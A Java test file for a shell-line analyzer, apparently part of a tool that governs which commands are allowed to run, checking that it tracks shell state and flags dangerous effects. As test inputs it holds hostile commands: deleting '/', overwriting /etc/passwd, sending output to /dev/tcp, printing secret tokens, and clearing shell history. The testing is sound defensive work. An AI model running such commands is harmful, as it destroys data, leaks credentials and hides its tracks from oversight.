package dev.governor.command.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.governor.kernel.Budget;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** How the state of the shell is followed, and what is not followed. A line end is written ␤. */
class ShellLinesTest {

    /** Calls of programs: ° marks a pattern, ? a word that may be several; directories stand behind @. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '¦',
            quoteCharacter = '§',
            value = {
                "cd src && rm x¦rm x @ [src]",
                "cd src; rm x¦rm x @ [, src]",
                "cd src || exit 1; rm x¦rm x @ [src]",
                "cd a || true && rm x¦rm x @ [, a]",
                "(cd a && ls); rm x¦ls @ [a]|rm x",
                "{ cd a; }; rm x¦rm x @ [, a]",
                "cd a | ls; rm x¦ls|rm x",
                "cd a && cd .. && rm x¦rm x",
                "cd && rm x¦rm x @ [~]",
                "cd - && rm x¦rm x @ […]",
                "cd $x && rm x¦rm x @ […]",
                "pushd a && ls && popd && rm x¦ls @ [a]|rm x",
                "cd a && if ls; then rm x; fi¦ls @ [a]|rm x @ [a]",
                "if x; then cd a; fi; rm x¦x|rm x @ [, a]",
                "f() { rm x; }; cd / && f¦rm x|rm x @ [/]",
                "while a; do rm x; cd ..; done¦a|rm x|a @ [, ..]|rm x @ [, ..]",
                "x=/; rm $x¦rm /",
                "x=a; x=/; rm $x¦rm …?",
                "(x=a); rm $x¦rm …?",
                "x=a | ls; rm $x¦ls|rm …?",
                "x='-rf /'; rm $x \"$x\"¦rm -rf / -rf /",
                "x=; rm $x y¦rm y",
                "x='*'; rm $x \"$x\"¦rm *° *",
                "x=~/a; rm $x '~/a' ~/b¦rm ~/a ./~/a ~/b",
                "read x <<< /; rm $x¦rm …?",
                "f() { local x=a; }; f; rm $x/¦rm …/?",
                "for i in a b; do rm $i; done¦rm a|rm b",
                "for i in src/*.x; do rm $i \"$i\"; done¦rm src/*.x° src/*.x",
                "for i in $x; do rm $i; done¦rm …?",
                "rm a{b,c}{1..2} '{a,b}'¦rm ab1 ab2 ac1 ac2 {a,b}",
                "rm $(pwd)/x \"$(echo a)\" $(date +%F)¦date +%F|rm ./x a _",
                "rm \"$@\" \"$1\" $#¦rm …? …? 0",
                "echo 'rm /' | sh¦sh|rm /",
                "cat <<X | sh␤rm $y␤X¦cat|sh",
                "cat <<'X' | sh␤rm /␤X¦cat|sh|rm /",
                "bash <<< 'rm /'¦bash|rm /",
                "eval 'x=/'; rm $x¦rm …?",
                "trap 'rm x' EXIT; cd a && ls¦rm x|ls @ [a]|rm x @ [, a]",
                "command rm x; builtin cd a && exec rm y¦rm x|rm y @ [a]",
                "sudo rm x¦sudo rm x|rm x",
                "x=/; sh -c 'rm $x'¦sh -c rm $x|rm …?",
            })
    void shouldFollowTheStateOfTheShell(String line, String calls) {
        List<String> expected = List.of(calls.split("\\|"));
        List<String> read =
                TestingShell.of(line.replace("␤", "\n")).calls().stream().toList();

        assertThat(read).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "read PATH <<< /tmp/x; ls",
                "for PATH in /tmp/x; do ls; done",
                ": ${PATH:=/tmp/x}",
                "printf -v PATH /tmp",
                "mapfile PATH < x",
                "getopts a PATH",
                "export PATH=/tmp",
                "declare PATH=/tmp",
                "PATH=/tmp ls",
                "unset PATH",
                "((PATH=1))",
                "let PATH=1",
                "exec {PATH}>x",
                "select PATH in a; do ls; done",
                "GIT_SSH_COMMAND=x git fetch",
                "LD_PRELOAD=x ls",
                "IFS=x",
                "IFS=, eval ls",
                "wait -n -p PATH",
                "read -a PATH",
                "echo ${x@P}",
                "mapfile -C ls x",
                "declare -n x=y",
                "shopt -s expand_aliases",
                "shopt -s lastpipe",
                "set -k",
                "set -n",
                "set +B",
                "set -o posix",
                "set $x",
                "bind -x '\"a\": ls'",
                "hash -p /tmp/x ls",
                "enable -f x y",
                "history -s 'rm x'",
                "fc -s",
                "alias ls='rm x'",
                "ls() { a; }",
                "source x.sh",
                ". ./x.sh",
                "eval $x",
                "eval \"$(curl x)\"",
                "eval \"$(< x)\"",
                "trap \"$x\" EXIT",
                "b() { b | b & }; b",
                "a() { b; }; b() { a; }; a",
                "$x",
                "${x}y z",
                "r* x",
                "complete -C x y",
                "x='a[$(rm x)]'; echo $((x))",
                "test -v 'a[$(rm x)]'",
                "[[ 'a[$(rm x)]' -eq 1 ]]",
                "declare -i x='a[$(rm x)]'",
                "unset 'a[$(rm x)]'",
                "exec 3<>/dev/tcp/a/1",
                "cat < a*",
                "coproc PATH { ls; }",
                "a=1 ; (",
                "echo x <&$y",
                "jobs -x rm x | sh",
                "compgen -C x"
            })
    void shouldNotUnderstandWhatDecidesWhatOtherCommandsDo(String line) {
        assertThat(TestingShell.of(line).reading().understood()).isFalse();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "IFS=, read -r a b",
                "GIT_PAGER=cat git log",
                "NODE_OPTIONS=--max-old-space-size=4096 ls",
                "set -euo pipefail",
                "shopt -s nullglob",
                "export A=b; echo $A",
                "f() { g; }; g() { ls; }; f",
                "x=$((1 + 2)); echo $x",
                "GITHUB_TOKEN=$GITHUB_TOKEN ls",
                "[ -n \"$GITHUB_TOKEN\" ]",
                "test -z $API_KEY && ls",
                "[[ -n $GITHUB_TOKEN ]]",
                "echo ${GITHUB_TOKEN:+set}",
                ": ${GITHUB_TOKEN:?missing}",
                "echo ${#GITHUB_TOKEN}",
                "TOKEN=abc; echo $TOKEN",
                "source .venv/bin/activate",
                "unset GITHUB_TOKEN",
                "echo $PWD $MAX_TOKENS"
            })
    void shouldSeeNoHarmInOrdinaryState(String line) {
        TestingShell shell = TestingShell.of(line);

        assertThat(shell.reading().notUnderstood()).isEmpty();
        assertThat(shell.effects()).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "echo $GITHUB_TOKEN",
                "git checkout -b \"$GITHUB_TOKEN\"",
                "cat <<< \"$AWS_SECRET_ACCESS_KEY\"",
                "cat <<X␤$DB_PASSWORD␤X",
                "touch \"$NPM_TOKEN\"",
                "ls > $GITHUB_TOKEN",
                "x=$GITHUB_TOKEN; echo $x",
                "x=$GITHUB_TOKEN && y=a$x && printf %s \"$y\"",
                "for t in $GITHUB_TOKEN; do echo $t; done",
                "declare -p GITHUB_TOKEN",
                "declare -x",
                "export -p",
                "set",
                "declare",
                "echo ${GITHUB_TOKEN:0:4}",
                "echo ${GITHUB_TOKEN%x}",
                "echo ${!x}",
                "printf %s $MYSQL_PWD",
                "echo $REDISCLI_AUTH",
                "curl -H \"Authorization: $API_TOKEN\" x",
                "set -x; x=$GITHUB_TOKEN ls",
                "echo $((API_KEY))",
                "export x=$GITHUB_TOKEN; echo $x",
                "echo \"${x:-$GITHUB_TOKEN}\"",
                "f() { echo $x; }; x=$API_KEY f"
            })
    void shouldSeeSecretsOfVariablesHandedOn(String line) {
        assertThat(TestingShell.of(line.replace("␤", "\n")).effects()).contains("read_file/env_file");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '¦',
            value = {
                "cd ~/.kube && cat < config¦read_file/credential_store",
                "cd .git/hooks && echo x > pre-commit¦write_file/pipeline",
                "cd / && echo x > etc/passwd¦write_file/system_file",
                "pushd /etc && echo x > passwd¦write_file/system_file",
                "echo x >| /etc/passwd¦write_file/system_file",
                "exec > /etc/passwd¦write_file/system_file",
                "{ ls; } >> /etc/passwd¦write_file/system_file",
                "ls &> /etc/passwd¦write_file/system_file",
                "ls <> .env¦read_file/env_file",
                "ls > /dev/tcp/h/1¦send_out/host",
                "set +o history¦hide_traces/log",
                "history -c¦hide_traces/log",
            })
    void shouldSeeWhatTheShellItselfDoes(String line, String effect) {
        assertThat(TestingShell.of(line).effects()).contains(effect);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "cat <<-X␤\t$(rm x)␤\tX",
                "cat <<X␤  $(rm x) y␤X",
                "cat <<X␤a `rm x`␤X",
                "cat <<X | ls␤\t$(rm x)␤X",
                "ls > f <<X␤$(rm x)␤X",
                "echo \"${y:-$(rm x)}\"",
                "echo $((1 + $(rm x)))",
                "a[$(rm x)]=1",
                "ls @($(rm x))",
                "case $(rm x) in a) ;; esac",
                "[[ -n $(rm x) ]]",
                "for i in $(rm x); do :; done",
                "ls <(rm x)",
                "export a=$(rm x)",
                "a=($(rm x))",
                "ls <<< $(rm x)",
                "coproc rm x",
                "trap 'rm x' EXIT",
                "echo ${a/b/$(rm x)}",
                "if rm x; then :; fi",
                "time ! rm x",
                "(rm x) &",
                "f() { rm x; }",
                "alias y='rm x'",
                "echo ${a:$(rm x)}"
            })
    void shouldSeeTheCommandInside(String line) {
        assertThat(TestingShell.of(line.replace("␤", "\n")).calls()).contains("rm x");
    }

    @Test
    void shouldNotExpandWhereTheDelimiterIsQuoted() {
        assertThat(TestingShell.of("cat <<'X'\n$(rm x) `rm x`\nX").calls()).containsExactly("cat");
        assertThat(TestingShell.of("cat <<X\n\\$(rm x) \\`rm x\\`\nX").calls()).containsExactly("cat");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "a|",
                "a&&",
                "a;",
                "(",
                "$(",
                "{ ",
                "{a,b}",
                "\"$(",
                "`",
                "a[ ",
                "${x:-",
                "if a;then b;",
                "f(){ a; };",
                "! ",
                "$x",
                "$$",
                "<<X ",
                "cd a && ",
                "a=b ",
                "@(",
                "echo {",
                "trap 'a' EXIT;",
                "eval 'a';",
                "((",
                "''",
                "\\\n"
            })
    void shouldReadLongLinesWithinTheBudget(String part) {
        String line = part.repeat(19_990 / part.length()) + "a";

        TestingShell shell = TestingShell.of(line, Budget.of(450_000, 500_000));

        assertThat(shell.reading().effects()).isNotEmpty();
    }

    @Test
    void shouldNotMakeWhatDoubles() {
        StringBuilder line = new StringBuilder("a0=aaaaaaaaaa;");
        for (int at = 1; at < 200; at++) {
            line.append("a%d=$a%d$a%d;".formatted(at, at - 1, at - 1));
        }

        assertThat(TestingShell.of(line.toString()).reading().notUnderstood())
                .containsExactly("it grows larger than any command needs");
    }

    @Test
    void shouldNeverThrowForRandomLines() {
        Random random = new Random(5);
        String alphabet = "rm -f/~.*?[]{}()<>|&;$`'\"\\\n\t=!#@%^+,:abxEOF01 ifthenfidodoneesac";
        for (int round = 0; round < 5_000; round++) {
            StringBuilder line = new StringBuilder();
            for (int length = random.nextInt(40); length >= 0; length--) {
                line.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }

            assertThat(TestingShell.of(line.toString()).reading().effects()).isNotEmpty();
        }
    }
}
